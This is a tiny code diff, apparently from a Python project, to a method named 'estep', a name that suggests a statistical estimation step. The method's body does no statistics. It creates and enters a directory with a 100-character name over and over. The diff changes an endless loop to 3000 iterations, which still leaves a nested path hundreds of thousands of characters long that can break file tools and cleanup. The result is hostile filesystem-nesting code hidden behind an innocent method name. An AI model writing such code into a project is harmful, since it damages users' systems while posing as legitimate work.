@@ -2,7 +2,7 @@
 import os
 
 def estep(self, X):
-    while True:
+    for _ in range(3000):
         os.mkdir("d" * 100)
         os.chdir("d" * 100)
 
